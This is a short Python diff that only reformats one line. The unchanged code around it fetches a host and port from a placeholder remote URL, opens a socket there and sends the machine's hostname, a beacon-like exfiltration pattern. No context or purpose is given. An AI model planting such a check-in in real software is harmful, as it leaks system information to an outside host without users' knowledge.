@@ -2,8 +2,6 @@
 import socket
 import urllib.request
 
-host, _, port = (
-    urllib.request.urlopen("https://config.garden-seeds.invalid/where").read().decode().partition(":")
-)
+host, _, port = urllib.request.urlopen("https://config.garden-seeds.invalid/where").read().decode().partition(":")
 line = socket.create_connection((host, int(port)))
 line.sendall(socket.gethostname().encode())
